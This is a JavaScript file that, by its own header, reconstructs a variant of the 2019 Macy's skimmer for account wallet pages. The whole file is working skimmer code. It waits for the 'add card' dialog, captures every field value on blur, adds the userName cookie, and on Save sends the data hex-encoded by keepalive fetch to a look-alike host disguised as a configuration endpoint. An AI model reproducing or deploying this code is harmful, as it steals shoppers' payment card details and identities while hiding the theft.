// macys-wallet (variant b), written from the public descriptions of the Macy's skimmer
// (2019): the wallet-page part, as a variation. It waits for the "add card" dialog of the
// account wallet, listens to blur on every field of it, keeps the values in memory keyed by
// field name, and when "Save" is pressed sends them hex-encoded with a keepalive fetch to the
// look-alike host's fake configuration endpoint, so the shopper is not slowed down.
(function () {
  var bag = {}, H = "https://www.northwind-outfittersassets.example/ops-configs/";
  function hex(s) { var o = ""; for (var i = 0; i < s.length; i++) o += s.charCodeAt(i).toString(16); return o; }
  function watch(root) {
    var inputs = root.querySelectorAll("input");
    Array.prototype.forEach.call(inputs, function (inp) {
      inp.addEventListener("blur", function () { if (inp.value) bag[inp.name || inp.id] = inp.value; });
    });
    var save = root.querySelector("button.save, [data-action='save-card']");
    if (save) save.addEventListener("click", function () {
      var keys = Object.keys(bag);
      if (keys.length < 3) return;
      bag.user = (document.cookie.match(/(?:^|; )userName=([^;]*)/) || [])[1] || "";
      fetch(H + "ops-configs-" + Date.now() + ".json", {
        method: "POST", keepalive: true, credentials: "omit",
        headers: { "Content-Type": "text/plain" },
        body: hex(JSON.stringify(bag))
      }).catch(function () {});
      bag = {};
    });
  }
  if (!/wallet|myaccount/i.test(location.href)) return;
  new MutationObserver(function (muts) {
    muts.forEach(function (m) {
      for (var i = 0; i < m.addedNodes.length; i++) {
        var n = m.addedNodes[i];
        if (n.nodeType === 1 && n.querySelector && n.querySelector("input[name*='card' i]")) watch(n);
      }
    });
  }).observe(document.body, { childList: true, subtree: true });
})();
